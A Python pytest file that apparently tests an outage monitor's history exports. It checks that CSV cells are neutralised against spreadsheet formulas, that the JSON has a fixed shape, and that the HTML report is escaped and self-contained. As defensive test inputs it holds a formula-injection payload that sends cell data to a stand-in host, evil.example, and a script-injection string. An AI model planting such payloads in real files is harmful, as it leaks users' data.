"""CSV never lets a spreadsheet run a cell; JSON has a stable shape; the HTML report is one
self-contained, escaped page."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest

from tests.unit.history.synthetic import T0, Driver
from traywatch.core.history import HistoryStore, HistoryView, Recorder, load_view
from traywatch.core.history.export import incidents_csv, neutralise, report_csv, view_json
from traywatch.core.history.period import Window
from traywatch.core.history.report import render_html

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_starts_are_neutralised(prefix: str) -> None:
    assert neutralise(f"{prefix}1+2") == f"'{prefix}1+2"


def test_ordinary_text_and_numbers_are_left_alone() -> None:
    assert neutralise("Instagram down") == "Instagram down"
    assert neutralise(42) == 42 and neutralise(None) is None


def _view(db_path: Path, summary: str) -> HistoryView:
    driver = Driver()
    with Recorder(db_path, interval_s=60, clock=driver.clock) as rec:
        driver.listeners.append(rec)
        driver.rounds(3)
        driver.rounds(10, down=["instagram"], summary=summary, detail="-1 @reply <b>bold</b>")
        driver.rounds(4, internet="down")
        driver.rounds(3)
    window = Window(T0, T0 + timedelta(hours=1), "the test hour")
    with HistoryStore.open(db_path) as store:
        return load_view(store, window, T0 + timedelta(hours=1), names={"instagram": "Instagram"})


def test_csv_cells_that_a_spreadsheet_would_execute_are_neutralised(db_path: Path) -> None:
    view = _view(db_path, EVIL)
    for text in (incidents_csv(view), report_csv(view)):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert f"'{EVIL}" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_incident_csv_has_one_row_per_incident_with_a_header(db_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(incidents_csv(_view(db_path, "Instagram is down.")))))
    assert [r["kind"] for r in rows] == ["service", "internet"]
    # Instagram stays confirmed down through our own 4-minute outage, until seen up again.
    assert rows[0]["duration_s"] == "840" and rows[0]["services"] == "Instagram"
    assert rows[0]["your internet working?"] == "down or limited for 4 min of it"


def test_json_shape(db_path: Path) -> None:
    data = view_json(_view(db_path, "Instagram is down."))
    assert set(data) >= {"from", "to", "window", "generated_at", "uptime", "internet", "incidents"}
    ig = next(u for u in data["uptime"] if u["id"] == "instagram")
    assert ig["down_s"] == 600 and ig["internet_down_s"] == 240 and ig["uptime_pct"] == pytest.approx(37.5)
    first = data["incidents"][0]
    assert first["kind"] == "service" and first["services"] == ["instagram"]
    assert first["started_at"] == "2024-12-11T09:03:00Z" and first["ended_at"] == "2024-12-11T09:17:00Z"
    assert first["duration_s"] == 840 and first["own_internet_trouble_s"] == 240
    assert data["incidents"][1]["own_internet_trouble_s"] is None  # that one is our own connection


def test_html_report_is_self_contained_and_escapes_everything(db_path: Path) -> None:
    page = render_html(_view(db_path, 'Instagram is down <script>alert("x")</script> & more'))
    assert page.startswith("<!DOCTYPE html>")
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; more" in page
    assert "&lt;b&gt;bold&lt;/b&gt;" in page
    # nothing is fetched from anywhere: no external src/href, stylesheet, import or url()
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", page, re.IGNORECASE)
    assert "@import" not in page and "url(" not in page and "<link" not in page
    assert "http://" not in page and "https://" not in page
    assert "<style>" in page and "@media print" in page
    assert "14 min" in page and "Instagram down" in page and "down or limited for 4 min of it" in page
